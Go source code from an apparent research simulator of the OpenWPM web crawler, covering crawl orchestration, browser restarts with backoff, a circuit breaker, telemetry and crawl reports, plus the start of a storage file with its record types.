		c.BackoffMaxSeconds = 60
	}
	if c.BreakerThreshold == 0 {
		c.BreakerThreshold = 3
	}
	c.BlindRetry = false
	return c
}

// SiteVisit is the outcome of visiting a site (front page + subpages).
type SiteVisit struct {
	Site     string
	Front    *browser.VisitResult
	Subpages []*browser.VisitResult
	// Restarts counts browser-manager recoveries during this site.
	Restarts int
	// Salvaged marks a site whose front page aborted mid-visit but whose
	// partial records were kept (crash/watchdog salvage).
	Salvaged bool
	// CircuitBroken marks a site whose remaining subpages were skipped by
	// the per-site circuit breaker.
	CircuitBroken bool
	// ErrorClass is the taxonomy class of the site-level failure, "" when
	// the site completed cleanly.
	ErrorClass string
	// PageErrors counts subpage visits that failed (the front page failing
	// fails the whole site instead).
	PageErrors int
	// VirtualSeconds and BackoffSeconds are the virtual time this site
	// consumed visiting and backing off.
	VirtualSeconds float64
	BackoffSeconds float64
}

// TaskManager orchestrates crawls: it creates browsers, attaches
// instruments, visits sites and funnels records to Storage.
type TaskManager struct {
	Cfg     CrawlConfig
	Storage *Storage

	js        Instrumentor
	browserNo int

	// virtualMS is the crawl's accumulated virtual clock (visiting plus
	// backoff), the time base for crawl- and visit-level telemetry spans.
	virtualMS    float64
	crawlSpan    int64
	curVisitSpan int64
	meters       *crawlMeters
}

// SetVirtualMS seeds the crawl's accumulated virtual clock. Resumed crawls
// use it so a fresh TaskManager continues span timestamps exactly where the
// interrupted one stopped — the scheduler re-folds the completed outcomes'
// durations in their original order, so the float is bit-identical to an
// uninterrupted run's.
func (tm *TaskManager) SetVirtualMS(ms float64) { tm.virtualMS = ms }

// CrawlSpan is the id of the currently open crawl span (0 outside a crawl,
// and 0 again once the crawl completed and the span was ended). A crawl
// interrupted by CrawlHooks.Stop leaves its span open; the scheduler records
// the id at each checkpoint so a resumed TaskManager can adopt it.
func (tm *TaskManager) CrawlSpan() int64 { return tm.crawlSpan }

// AdoptCrawlSpan hands an open crawl span to this TaskManager: the next
// CrawlFromHooked continues recording under it instead of beginning a new
// one, so an interrupt/resume cycle leaves exactly one crawl span in the
// trace — begun by the first process, ended by the last.
func (tm *TaskManager) AdoptCrawlSpan(span int64) { tm.crawlSpan = span }

// crawlMeters holds the framework layer's pre-resolved metric handles; nil
// when telemetry is off.
type crawlMeters struct {
	completed    *telemetry.Counter
	salvaged     *telemetry.Counter
	failed       *telemetry.Counter
	skipped      *telemetry.Counter
	pages        *telemetry.Counter
	breakerTrips *telemetry.Counter
	budgetSkips  *telemetry.Counter
	visitSeconds *telemetry.Histogram
	backoff      *telemetry.Histogram
}

func newCrawlMeters(tel *telemetry.Telemetry) *crawlMeters {
	if !tel.Enabled() {
		return nil
	}
	return &crawlMeters{
		completed:    tel.Counter("crawl_sites_total", telemetry.L("outcome", "completed")),
		salvaged:     tel.Counter("crawl_sites_total", telemetry.L("outcome", "salvaged")),
		failed:       tel.Counter("crawl_sites_total", telemetry.L("outcome", "failed")),
		skipped:      tel.Counter("crawl_sites_total", telemetry.L("outcome", "skipped")),
		pages:        tel.Counter("crawl_pages_total"),
		breakerTrips: tel.Counter("crawl_breaker_trips_total"),
		budgetSkips:  tel.Counter("crawl_budget_skips_total"),
		visitSeconds: tel.Histogram("visit_virtual_seconds", telemetry.SecondsBuckets),
		backoff:      tel.Histogram("crawl_backoff_seconds", telemetry.SecondsBuckets),
	}
}

// NewTaskManager creates a TaskManager with fresh storage.
func NewTaskManager(cfg CrawlConfig) *TaskManager {
	if cfg.DwellSeconds == 0 {
		cfg.DwellSeconds = 60
	}
	if cfg.MaxRetries == 0 {
		cfg.MaxRetries = 2
	}
	if cfg.ClientID == "" {
		cfg.ClientID = "openwpm-client"
	}
	if cfg.Recorder != nil {
		// wrap before the StorageFault sniff below: the recorder's wrapper
		// re-exposes the underlying transport's fault hook while archiving
		// each drop decision, so faulted crawls replay their lost writes
		cfg.Transport = cfg.Recorder.WrapTransport(cfg.Transport)
	}
	// the meter goes outermost so it counts exactly what the browser sees;
	// it too preserves the StorageFault capability for the sniff below
	cfg.Transport = httpsim.Meter(cfg.Transport, cfg.Telemetry)
	tm := &TaskManager{Cfg: cfg, Storage: NewStorage(), meters: newCrawlMeters(cfg.Telemetry)}
	tm.Storage.SetTelemetry(cfg.Telemetry)
	// a fault-injecting transport may also fail storage writes; the hook is
	// an optional interface so this package stays decoupled from faults'
	// injector type
	if sf, ok := cfg.Transport.(interface{ StorageFault(table string) bool }); ok {
		tm.Storage.FaultFn = sf.StorageFault
	}
	tm.Storage.Observer = cfg.Recorder
	tm.Storage.Backend = cfg.Backend
	tm.Storage.TamperFn = cfg.Tamper
	if cfg.Stealth != nil {
		tm.js = cfg.Stealth
	} else if cfg.JSInstrument {
		tm.js = &JSInstrument{
			Legacy:     cfg.LegacyInstrumentGlobals,
			HoneyProps: HoneyNames(cfg.ClientID, cfg.HoneyProps),
		}
	}
	return tm
}

// HoneyNames derives n random-looking property names, stable per client so
// analyses can recognise them later.
func HoneyNames(seed string, n int) []string {
	var out []string
	h := uint64(14695981039346656037)
	for _, c := range []byte(seed) {
		h = (h ^ uint64(c)) * 1099511628211
	}
	for i := 0; i < n; i++ {
		h = (h ^ uint64(i+1)) * 1099511628211
		out = append(out, fmt.Sprintf("zx%08x", uint32(h)))
	}
	return out
}

// NewBrowser builds a fresh, instrumented browser (a fresh profile: the
// default OpenWPM crawl is stateless across sites).
func (tm *TaskManager) NewBrowser() *browser.Browser {
	cfg := jsdom.StandardConfig(tm.Cfg.OS, tm.Cfg.Mode, tm.firefoxVersion(), tm.browserNo)
	cfg.DisableVM = tm.Cfg.DisableVM
	tm.browserNo++
	b := browser.New(browser.Options{
		Config:          cfg,
		Transport:       tm.Cfg.Transport,
		ClientID:        tm.Cfg.ClientID,
		DwellSeconds:    tm.Cfg.DwellSeconds,
		MaxVisitSeconds: tm.Cfg.MaxVisitSeconds,
		Telemetry:       tm.Cfg.Telemetry,
	})
	b.SpanParent = tm.curVisitSpan
	tm.attach(b)
	return b
}

func (tm *TaskManager) firefoxVersion() int {
	if tm.Cfg.FirefoxVersion == 0 {
		return 90
	}
	return tm.Cfg.FirefoxVersion
}

// attach wires the configured instruments into a browser.
func (tm *TaskManager) attach(b *browser.Browser) {
	st := tm.Storage
	if tm.js != nil {
		js := tm.js
		b.OnWindowCreated = func(d *jsdom.DOM, top bool) {
			js.OnWindow(b, st, d, top)
		}
	}
	if tm.Cfg.HTTPInstrument {
		AttachHTTPInstrument(b, st, tm.Cfg.HTTPFilterJSOnly)
	}
	if tm.Cfg.CookieInstrument {
		AttachCookieInstrument(b, st)
	}
}

// classifyError maps a visit error to the recovery taxonomy. Watchdog and
// deterministic browser failures are recognised here; everything else
// defers to the fault taxonomy (unknown errors count as transient).
func classifyError(err error) faults.Class {
	if err == nil {
		return faults.ClassNone
	}
	if errors.Is(err, browser.ErrVisitBudget) {
		return faults.ClassHang
	}
	if errors.Is(err, browser.ErrRedirectLoop) {
		return faults.ClassPermanent
	}
	var se *browser.StatusError
	if errors.As(err, &se) {
		return faults.ClassPermanent
	}
	return faults.Classify(err)
}

// validateURL rejects URLs no browser could load — retrying those only
// burns restarts, which is exactly the pre-hardening bug.
func validateURL(url string) error {
	scheme, host, _ := httpsim.URLParts(url)
	if scheme != "http" && scheme != "https" {
		return faults.Permanentf("openwpm: malformed URL %q: unsupported scheme", url)
	}
	if host == "" {
		return faults.Permanentf("openwpm: malformed URL %q: missing host", url)
	}
	return nil
}

// visitMeta carries recovery bookkeeping into a VisitRecord.
type visitMeta struct {
	restarts int
	salvaged bool
	class    string
}

// VisitSite crawls one site: the front page and up to MaxSubpages same-site
// subpages, with browser restarts on failure (the BrowserManager role). With
// telemetry enabled the whole site is recorded as a "visit" span on the
// crawl's accumulated virtual clock, and its outcome feeds the registry.
func (tm *TaskManager) VisitSite(url string) (*SiteVisit, error) {
	tel := tm.Cfg.Telemetry
	if tel.Enabled() {
		tm.curVisitSpan = tel.Begin("visit", tm.crawlSpan, tm.virtualMS, telemetry.L("site", url))
	}
	sv, err := tm.visitSite(url)
	tm.virtualMS += (sv.VirtualSeconds + sv.BackoffSeconds) * 1000
	outcome := "completed"
	switch {
	case err != nil:
		outcome = "failed"
	case sv.Salvaged:
		outcome = "salvaged"
	}
	if m := tm.meters; m != nil {
		switch outcome {
		case "failed":
			m.failed.Inc()
		case "salvaged":
			m.salvaged.Inc()
		default:
			m.completed.Inc()
		}
		m.pages.Add(int64(1 + len(sv.Subpages) + sv.PageErrors))
		m.visitSeconds.Observe(sv.VirtualSeconds)
	}
	if tel.Enabled() {
		if sv.Salvaged {
			tel.Event(telemetry.LevelWarn, "salvage", tm.virtualMS,
				telemetry.L("site", url), telemetry.L("class", sv.ErrorClass))
		}
		tel.End(tm.curVisitSpan, "visit", tm.virtualMS, telemetry.L("outcome", outcome))
		tm.curVisitSpan = 0
	}
	return sv, err
}

// visitSite is VisitSite without the telemetry envelope.
func (tm *TaskManager) visitSite(url string) (*SiteVisit, error) {
	// Window numbering restarts at every site: window geometry derives from
	// the browser index (jsdom.StandardConfig offsets screenX per window), so
	// a crawl-global counter would leak the site's position in the crawl into
	// JS-visible state. A site's records must be a pure function of
	// (site, config, seed) for sharded and serial crawls to store identical
	// bytes; restarts within the site still advance the index.
	tm.browserNo = 0
	tm.Storage.SetVisitContext(url)
	bm := &BrowserManager{tm: tm, site: url}
	sv := &SiteVisit{Site: url}
	finish := func() {
		sv.Restarts = bm.Restarts
		sv.VirtualSeconds = bm.virtualSeconds
		sv.BackoffSeconds = bm.backoffSeconds
	}

	front, err := bm.Visit(url)
	if err != nil {
		finish()
		class := classifyError(err)
		sv.ErrorClass = class.String()
		if front != nil {
			// salvage: the visit aborted mid-flight, but the records its
			// instruments captured up to the abort are already in Storage —
			// keep them, tagged, instead of pretending the site was never
			// seen. The link list is partial, so subpages are not attempted.
			sv.Front = front
			sv.Salvaged = true
			tm.recordVisit(url, url, front, false, err, visitMeta{bm.Restarts, true, sv.ErrorClass})
			return sv, nil
		}
		tm.recordVisit(url, url, nil, false, err, visitMeta{bm.Restarts, false, sv.ErrorClass})
		return sv, err
	}
	sv.Front = front
	tm.recordVisit(url, url, front, false, nil, visitMeta{restarts: bm.Restarts})

	// Subpage selection (Sec. 4.1.2): same-eTLD+1 links from the landing
	// page, deduplicated, capped.
	if tm.Cfg.MaxSubpages > 0 {
		for _, sub := range SelectSubpages(front.FinalURL, front.Links, tm.Cfg.MaxSubpages) {
			if bm.tripped {
				sv.CircuitBroken = true
				break
			}
			res, err := bm.Visit(sub)
			if err != nil {
				sv.PageErrors++
				salvaged := res != nil
				tm.recordVisit(url, sub, res, true, err, visitMeta{bm.Restarts, salvaged, classifyError(err).String()})
				continue
			}
			// same-origin redirects to foreign domains are skipped
			if res.OffDomain {
				tm.recordVisit(url, sub, res, true, fmt.Errorf("left site via redirect"), visitMeta{restarts: bm.Restarts})
				continue
			}
			sv.Subpages = append(sv.Subpages, res)
			tm.recordVisit(url, sub, res, true, nil, visitMeta{restarts: bm.Restarts})
		}
	}
	finish()
	return sv, nil
}

func (tm *TaskManager) recordVisit(site, url string, res *browser.VisitResult, subpage bool, err error, meta visitMeta) {
	rec := VisitRecord{
		SiteURL:    url,
		Site:       site,
		Subpage:    subpage,
		Restarts:   meta.restarts,
		Salvaged:   meta.salvaged,
		ErrorClass: meta.class,
	}
	if err != nil {
		rec.Error = err.Error()
	}
	if res != nil {
		rec.OK = err == nil
		rec.FinalURL = res.FinalURL
		rec.CSPReports = res.CSPReports
		rec.InstrumentInstalled = tm.js == nil || tm.js.TopInstallError() == nil
	}
	tm.Storage.AddVisit(rec)
}

// errCrawlBudget marks sites skipped because the crawl-level virtual-time
// budget ran out before they could be visited.
var errCrawlBudget = errors.New("openwpm: crawl virtual-time budget exhausted before visit")

// crawlBudgetClass is the taxonomy label for budget-skipped sites.
const crawlBudgetClass = "crawl-budget"

// CrawlReport is the accounting a crawl returns: every input site ends in
// exactly one of Completed, Salvaged, Failed or Skipped — nothing is lost
// silently (the reliability property the paper's Sec. 3 audit demands).
type CrawlReport struct {
	Sites     int
	Completed int
	Salvaged  int
	Failed    int
	Skipped   int

	CircuitBroken int
	Restarts      int
	PageVisits    int
	PageErrors    int
	DroppedWrites int

	// ErrorClasses histograms site-level failures by taxonomy class.
	ErrorClasses map[string]int

	VirtualSeconds float64
	BackoffSeconds float64

	// Metrics is the telemetry snapshot of the crawl, attached when the
	// crawl ran with CrawlConfig.Telemetry (omitted otherwise, so archived
	// reports from telemetry-free crawls serialise unchanged).
	Metrics *telemetry.Snapshot `json:"Metrics,omitempty"`
}

// NewCrawlReport returns an empty report.
func NewCrawlReport() *CrawlReport {
	return &CrawlReport{ErrorClasses: map[string]int{}}
}

// SiteOutcome is the compact, retained-nothing summary of one site's crawl
// outcome: exactly the fields CrawlReport accounting needs, without holding
// the visit's page results alive. The sharded scheduler streams per-shard
// outcomes and re-folds them in global site order — float sums are
// order-sensitive, so only a fixed fold order makes a merged report
// bit-identical across worker counts.
type SiteOutcome struct {
	Site     string
	Subpages int
	Restarts int

	PageErrors    int
	CircuitBroken bool
	Salvaged      bool
	Failed        bool
	// Skipped marks a site the crawl never reached (budget exhaustion): it
	// is accounted but contributes no page visits or virtual time.
	Skipped    bool
	ErrorClass string

	VirtualSeconds float64
	BackoffSeconds float64
}

// OutcomeOf summarises a completed VisitSite call.
func OutcomeOf(sv *SiteVisit, err error) SiteOutcome {
	return SiteOutcome{
		Site:           sv.Site,
		Subpages:       len(sv.Subpages),
		Restarts:       sv.Restarts,
		PageErrors:     sv.PageErrors,
		CircuitBroken:  sv.CircuitBroken,
		Salvaged:       sv.Salvaged,
		Failed:         err != nil,
		ErrorClass:     sv.ErrorClass,
		VirtualSeconds: sv.VirtualSeconds,
		BackoffSeconds: sv.BackoffSeconds,
	}
}

// Absorb folds one site outcome into the report.
func (r *CrawlReport) Absorb(sv *SiteVisit, err error) {
	r.AbsorbOutcome(OutcomeOf(sv, err))
}

// AbsorbOutcome folds one compact site outcome into the report. Every site
// lands in exactly one of Completed, Salvaged, Failed or Skipped.
func (r *CrawlReport) AbsorbOutcome(o SiteOutcome) {
	if r.ErrorClasses == nil {
		// tolerate zero-value reports (&CrawlReport{}), not just NewCrawlReport
		r.ErrorClasses = map[string]int{}
	}
	r.Sites++
	if o.ErrorClass != "" {
		r.ErrorClasses[o.ErrorClass]++
	}
	if o.Skipped {
		r.Skipped++
		return
	}
	r.Restarts += o.Restarts
	r.PageVisits += 1 + o.Subpages + o.PageErrors
	r.PageErrors += o.PageErrors
	r.VirtualSeconds += o.VirtualSeconds
	r.BackoffSeconds += o.BackoffSeconds
	if o.CircuitBroken {
		r.CircuitBroken++
	}
	switch {
	case o.Failed:
		r.Failed++
	case o.Salvaged:
		r.Salvaged++
	default:
		r.Completed++
	}
}

// Merge folds another report into r (sharded crawls). The receiver may be a
// zero-value report: nil maps are initialised rather than written through.
// Metrics snapshots are not summed — sharded workers share one registry, so
// the first non-nil snapshot wins and callers overwrite it with a final
// whole-crawl snapshot after merging.
func (r *CrawlReport) Merge(o *CrawlReport) {
	if r.ErrorClasses == nil && len(o.ErrorClasses) > 0 {
		r.ErrorClasses = map[string]int{}
	}
	if r.Metrics == nil {
		r.Metrics = o.Metrics
	}
	r.Sites += o.Sites
	r.Completed += o.Completed
	r.Salvaged += o.Salvaged
	r.Failed += o.Failed
	r.Skipped += o.Skipped
	r.CircuitBroken += o.CircuitBroken
	r.Restarts += o.Restarts
	r.PageVisits += o.PageVisits
	r.PageErrors += o.PageErrors
	r.DroppedWrites += o.DroppedWrites
	r.VirtualSeconds += o.VirtualSeconds
	r.BackoffSeconds += o.BackoffSeconds
	for k, n := range o.ErrorClasses {
		r.ErrorClasses[k] += n
	}
}

// CompletionRate is the fraction of sites that produced usable data
// (completed or salvaged). Salvaged sites carry only partial records —
// FullCompletionRate excludes them when the distinction matters.
func (r *CrawlReport) CompletionRate() float64 {
	if r.Sites == 0 {
		return 0
	}
	return float64(r.Completed+r.Salvaged) / float64(r.Sites)
}

// FullCompletionRate is the fraction of sites that completed cleanly, with
// salvaged partials excluded.
func (r *CrawlReport) FullCompletionRate() float64 {
	if r.Sites == 0 {
		return 0
	}
	return float64(r.Completed) / float64(r.Sites)
}

// Accounted verifies the invariant that every site landed in exactly one
// outcome bucket.
func (r *CrawlReport) Accounted() bool {
	return r.Completed+r.Salvaged+r.Failed+r.Skipped == r.Sites
}

// String renders the report deterministically (same crawl ⇒ same bytes).
// Salvaged and skipped sites are called out separately: a salvaged site kept
// partial records, while a skipped site was never visited at all — folding
// the two together is exactly the silent-loss reporting the paper faults.
func (r *CrawlReport) String() string {
	var sb strings.Builder
	fmt.Fprintf(&sb, "crawl: %d sites — %d completed, %d salvaged, %d failed, %d skipped (completion %.1f%%, full %.1f%%)\n",
		r.Sites, r.Completed, r.Salvaged, r.Failed, r.Skipped, 100*r.CompletionRate(), 100*r.FullCompletionRate())
	if r.Salvaged > 0 || r.Skipped > 0 {
		fmt.Fprintf(&sb, "data loss: %d sites salvaged (partial records kept), %d sites skipped (never visited, no records)\n",
			r.Salvaged, r.Skipped)
	}
	fmt.Fprintf(&sb, "recovery: %d restarts, %d circuit-broken sites, %d page visits, %d page errors, %d dropped writes\n",
		r.Restarts, r.CircuitBroken, r.PageVisits, r.PageErrors, r.DroppedWrites)
	fmt.Fprintf(&sb, "virtual time: %.1fs visiting, %.1fs backing off\n", r.VirtualSeconds, r.BackoffSeconds)
	if len(r.ErrorClasses) > 0 {
		keys := make([]string, 0, len(r.ErrorClasses))
		for k := range r.ErrorClasses {
			keys = append(keys, k)
		}
		sort.Strings(keys)
		sb.WriteString("errors:")
		for _, k := range keys {
			fmt.Fprintf(&sb, " %s=%d", k, r.ErrorClasses[k])
		}
		sb.WriteByte('\n')
	}
	return sb.String()
}

// Checkpoint is resumable crawl state: how many input URLs are done and the
// report accumulated so far. An interrupted ranked scan resumes from the
// last completed rank by passing the same Checkpoint back to CrawlFrom.
type Checkpoint struct {
	Done   int
	Report *CrawlReport
}

// Crawl visits every URL in order; per-site errors are recorded, not fatal.
// The returned report accounts for every input site.
func (tm *TaskManager) Crawl(urls []string) *CrawlReport {
	return tm.CrawlFrom(urls, &Checkpoint{})
}

// CrawlHooks lets a scheduler observe and steer a crawl at site
// granularity without owning the loop.
type CrawlHooks struct {
	// OnSite is called after each site is accounted (visited or
	// budget-skipped), with the checkpoint already advanced past it.
	OnSite func(SiteOutcome)
	// Stop, when non-nil, is polled before each site; returning true ends
	// the crawl at the site boundary, leaving the checkpoint resumable.
	Stop func() bool
}

// CrawlFrom continues a crawl from a checkpoint, updating it after every
// site so callers can persist progress and survive interruption.
func (tm *TaskManager) CrawlFrom(urls []string, cp *Checkpoint) *CrawlReport {
	return tm.CrawlFromHooked(urls, cp, CrawlHooks{})
}

// CrawlFromHooked is CrawlFrom with per-site hooks — the primitive under the
// sharded scheduler (package sched): each worker runs one of these over its
// shard, streaming outcomes out and polling for cooperative interruption.
func (tm *TaskManager) CrawlFromHooked(urls []string, cp *Checkpoint, h CrawlHooks) *CrawlReport {
	if cp.Report == nil {
		cp.Report = NewCrawlReport()
	}
	r := cp.Report
	tel := tm.Cfg.Telemetry
	if tel.Enabled() && tm.crawlSpan == 0 {
		// an adopted span (interrupt/resume) is continued, not re-begun
		tm.crawlSpan = tel.Begin("crawl", 0, tm.virtualMS,
			telemetry.L("sites", fmt.Sprint(len(urls))))
	}
	dropped0 := tm.Storage.DroppedTotal()
	stopped := false
	for cp.Done < len(urls) {
		if h.Stop != nil && h.Stop() {
			stopped = true
			break
		}
		u := urls[cp.Done]
		tm.Storage.SetVisitContext(u)
		var o SiteOutcome
		if tm.Cfg.MaxCrawlSeconds > 0 && r.VirtualSeconds+r.BackoffSeconds >= tm.Cfg.MaxCrawlSeconds {
			// out of crawl budget: account for the site instead of dropping it
			tm.recordVisit(u, u, nil, false, errCrawlBudget, visitMeta{class: crawlBudgetClass})
			o = SiteOutcome{Site: u, Skipped: true, ErrorClass: crawlBudgetClass}
			r.AbsorbOutcome(o)
			if m := tm.meters; m != nil {
				m.skipped.Inc()
				m.budgetSkips.Inc()
			}
			if tel.Enabled() {
				tel.Event(telemetry.LevelWarn, "budget-skip", tm.virtualMS, telemetry.L("site", u))
			}
		} else {
			sv, err := tm.VisitSite(u)
			o = OutcomeOf(sv, err)
			r.AbsorbOutcome(o)
		}
		cp.Done++
		if h.OnSite != nil {
			h.OnSite(o)
		}
	}
	r.DroppedWrites += tm.Storage.DroppedTotal() - dropped0
	if tel.Enabled() {
		if !stopped {
			// a stopped crawl leaves its span open for the resuming
			// TaskManager to adopt; only a completed crawl ends it
			tel.End(tm.crawlSpan, "crawl", tm.virtualMS,
				telemetry.L("completed", fmt.Sprint(r.Completed)))
			tm.crawlSpan = 0
		}
		r.Metrics = tel.Snapshot()
	}
	return r
}

// SelectSubpages picks up to max same-site URLs from links.
func SelectSubpages(base string, links []string, max int) []string {
	seen := map[string]bool{base: true}
	var out []string
	for _, l := range links {
		if len(out) >= max {
			break
		}
		if seen[l] || !httpsim.SameSite(base, l) {
			continue
		}
		if strings.HasPrefix(l, "javascript:") {
			continue
		}
		seen[l] = true
		out = append(out, l)
	}
	return out
}

// BrowserManager owns one live browser, restarting it after crashes — the
// monitoring/recovery role of OpenWPM's framework layer.
type BrowserManager struct {
	tm       *TaskManager
	b        *browser.Browser
	site     string
	Restarts int

	consecFails    int
	tripped        bool
	virtualSeconds float64
	backoffSeconds float64
}

// Visit loads url with classified recovery: permanent failures fail fast,
// transient/hang/crash failures restart the browser (with backoff) up to
// MaxRetries, and an aborted attempt's partial result is returned alongside
// the error so the caller can salvage it.
func (bm *BrowserManager) Visit(url string) (*browser.VisitResult, error) {
	if err := validateURL(url); err != nil {
		bm.noteFailure()
		return nil, err
	}
	if bm.tm.Cfg.BlindRetry {
		return bm.visitBlind(url)
	}
	var lastErr error
	var partial *browser.VisitResult
	for attempt := 0; attempt <= bm.tm.Cfg.MaxRetries; attempt++ {
		res, err := bm.visitOnce(url)
		if err == nil {
			bm.noteSuccess()
			return res, nil
		}
		lastErr = err
		if res != nil {
			partial = res
		}
		class := classifyError(err)
		if class == faults.ClassPermanent {
			// deterministic failure: retrying cannot change the outcome
			break
		}
		// transient, hang or crash: discard the browser, note the restart,
		// back off, try again with a fresh profile
		bm.recordRestart(url, attempt, class, err)
		bm.discard()
		bm.backoff(url, attempt)
	}
	bm.noteFailure()
	return partial, lastErr
}

// visitBlind is the pre-hardening loop: retry everything identically, no
// classification, no salvage, no backoff.
func (bm *BrowserManager) visitBlind(url string) (*browser.VisitResult, error) {
	var lastErr error
	for attempt := 0; attempt <= bm.tm.Cfg.MaxRetries; attempt++ {
		res, err := bm.visitOnce(url)
		if err == nil {
			return res, nil
		}
		lastErr = err
		bm.recordRestart(url, attempt, classifyError(err), err)
		bm.discard()
	}
	return nil, lastErr
}

// visitOnce runs a single attempt, charging its virtual time to the site.
func (bm *BrowserManager) visitOnce(url string) (*browser.VisitResult, error) {
	if bm.b == nil {
		bm.b = bm.tm.NewBrowser()
	}
	start := bm.b.Now()
	res, err := bm.b.Visit(url)
	if err == nil && bm.tm.Cfg.SimulateInteraction {
		bm.b.FireListeners("mouseover")
		bm.b.FireListeners("scroll")
		bm.b.Idle(5) // let interaction-triggered beacons fire
	}
	bm.virtualSeconds += (bm.b.Now() - start) / 1000
	return res, err
}

// discard throws the browser away; the next attempt gets a fresh profile.
func (bm *BrowserManager) discard() {
	bm.b = nil
	bm.Restarts++
}

// nowMS is the crawl-level virtual clock including the current site's
// elapsed time, the time base for recovery events.
func (bm *BrowserManager) nowMS() float64 {
	return bm.tm.virtualMS + (bm.virtualSeconds+bm.backoffSeconds)*1000
}

// recordRestart writes a crash-table row for a browser restart and reports
// it to the telemetry layer (restart counter by class, retry event).
func (bm *BrowserManager) recordRestart(url string, attempt int, class faults.Class, err error) {
	if tel := bm.tm.Cfg.Telemetry; tel.Enabled() {
		tel.Counter("crawl_restarts_total", telemetry.L("class", class.String())).Inc()
		tel.Event(telemetry.LevelWarn, "retry", bm.nowMS(),
			telemetry.L("site", bm.site), telemetry.L("url", url),
			telemetry.L("class", class.String()), telemetry.L("attempt", fmt.Sprint(attempt)))
	}
	bm.tm.Storage.AddCrash(CrashRecord{
		SiteURL: bm.site,
		PageURL: url,
		Attempt: attempt,
		Class:   class.String(),
		Error:   err.Error(),
	})
}

// backoff sleeps (in virtual time) exponentially with deterministic jitter:
// the same client and URL always wait the same schedule, so crawls stay
// reproducible.
func (bm *BrowserManager) backoff(url string, attempt int) {
	base := bm.tm.Cfg.BackoffBaseSeconds
	if base <= 0 {
		return
	}
	d := base * float64(uint64(1)<<uint(attempt))
	if max := bm.tm.Cfg.BackoffMaxSeconds; max > 0 && d > max {
		d = max
	}
	d += base * float64(fnv64(bm.tm.Cfg.ClientID, url, fmt.Sprint(attempt))%1000) / 1000
	bm.backoffSeconds += d
	if m := bm.tm.meters; m != nil {
		m.backoff.Observe(d)
	}
	if tel := bm.tm.Cfg.Telemetry; tel.Enabled() {
		tel.Event(telemetry.LevelInfo, "backoff", bm.nowMS(),
			telemetry.L("site", bm.site), telemetry.L("seconds", fmt.Sprintf("%.3f", d)))
	}
}

// noteSuccess / noteFailure drive the per-site circuit breaker.
func (bm *BrowserManager) noteSuccess() { bm.consecFails = 0 }

func (bm *BrowserManager) noteFailure() {
	bm.consecFails++
	if th := bm.tm.Cfg.BreakerThreshold; th > 0 && bm.consecFails >= th && !bm.tripped {
		bm.tripped = true
		if m := bm.tm.meters; m != nil {
			m.breakerTrips.Inc()
		}
		if tel := bm.tm.Cfg.Telemetry; tel.Enabled() {
			tel.Event(telemetry.LevelWarn, "breaker-trip", bm.nowMS(),
				telemetry.L("site", bm.site), telemetry.L("fails", fmt.Sprint(bm.consecFails)))
		}
	}
}

// Tripped reports whether the per-site circuit breaker has opened.
func (bm *BrowserManager) Tripped() bool { return bm.tripped }

// Browser exposes the live browser (tests inspect realms after visits).
func (bm *BrowserManager) Browser() *browser.Browser { return bm.b }

func fnv64(parts ...string) uint64 {
	h := uint64(14695981039346656037)
	for _, p := range parts {
		for i := 0; i < len(p); i++ {
			h = (h ^ uint64(p[i])) * 1099511628211
		}
		h = (h ^ 0x3d) * 1099511628211
	}
	return h
}

// AttachHTTPInstrument records every request; response bodies are stored
// according to the filter mode.
func AttachHTTPInstrument(b *browser.Browser, st *Storage, filterJSOnly bool) {
	b.OnRequest = func(req *httpsim.Request, resp *httpsim.Response) {
		rec := RequestRecord{
			URL:    req.URL,
			TopURL: req.TopURL,
			Type:   req.Type,
			Method: req.Method,
			Time:   req.Time,
		}
		if resp != nil {
			rec.Status = resp.Status
			rec.CType = resp.Header("Content-Type")
			rec.BodySize = len(resp.Body)
		}
		st.AddRequest(rec)
		if resp == nil || resp.Status != 200 {
			return
		}
		if filterJSOnly {
			if isJavaScript(req, resp) {
				st.AddScriptFile(req.URL, resp.Body, rec.CType)
			}
			return
		}
		st.AddScriptFile(req.URL, resp.Body, rec.CType)
	}
}

// isJavaScript is the JS-only storage filter: resource type, extension or
// content type must say "JavaScript". Sec. 5.4.2 shows how to evade all
// three at once.
func isJavaScript(req *httpsim.Request, resp *httpsim.Response) bool {
	if req.Type == httpsim.TypeScript {
		return true
	}
	if strings.HasSuffix(httpsim.Path(req.URL), ".js") {
		return true
	}
	return strings.Contains(resp.Header("Content-Type"), "javascript")
}

// AttachCookieInstrument records jar writes.
func AttachCookieInstrument(b *browser.Browser, st *Storage) {
	b.OnCookieStored = func(rec browser.CookieRecord) {
		st.AddCookie(CookieEntry{
			Name:       Sanitize(rec.Cookie.Name),
			Value:      Sanitize(rec.Cookie.Value),
			Domain:     rec.Cookie.Domain,
			TopURL:     rec.TopURL,
			Expires:    rec.Cookie.Expires,
			ViaJS:      rec.ViaJS,
			FirstParty: rec.FirstParty(),
			Time:       rec.SetAt,
		})
	}
}
