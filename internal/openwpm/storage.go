// Package openwpm simulates the OpenWPM measurement framework on top of the
// simulated browser: a TaskManager orchestrating visits, a BrowserManager
// restarting crashed browsers, and the three instruments the paper studies —
// JavaScript call recording, HTTP traffic recording and cookie recording.
// The vanilla JS instrument deliberately reproduces the weaknesses the paper
// identifies (Secs. 3.1.4 and 5); package stealth provides the hardened
// variant (WPM_hide).
package openwpm

import (
	"crypto/sha256"
	"encoding/hex"
	"strings"

	"gullible/internal/httpsim"
)

// JSCall is one recorded JavaScript API interaction.
type JSCall struct {
	TopURL    string // set host-side; a page cannot spoof it (Sec. 5.2)
	FrameURL  string
	Symbol    string // "Interface.property"
	Operation string // "get", "set" or "call"
	Value     string
	Args      string
	ScriptURL string // as reported by the in-page instrumentation
	Time      float64
}

// RequestRecord is one recorded HTTP request.
type RequestRecord struct {
	URL      string
	TopURL   string
	Type     httpsim.ResourceType
	Method   string
	Status   int
	CType    string
	Time     float64
	BodySize int
}

// CookieEntry is one recorded cookie store operation.
type CookieEntry struct {
	Name       string
	Value      string
	Domain     string
	TopURL     string
	Expires    float64
	ViaJS      bool
	FirstParty bool
	Time       float64
}

// ScriptFile is a stored response body (a JavaScript file, or any body in
// full-coverage mode). Identical content is stored once; URLs lists every
// location it was served from.
type ScriptFile struct {
	URL     string // first URL observed
	SHA256  string
	Content string
	CType   string
	URLs    []string // all URLs serving this content, deduplicated
}

// VisitRecord summarises one page visit.
type VisitRecord struct {
	SiteURL    string
	FinalURL   string
	Subpage    bool
	OK         bool
	Error      string
	CSPReports int
	// InstrumentInstalled reports whether the JS instrument attached
	// successfully (CSP can block the vanilla injection, Sec. 5.1.2).
	InstrumentInstalled bool
	// Restarts counts browser restarts consumed reaching this outcome.
	Restarts int
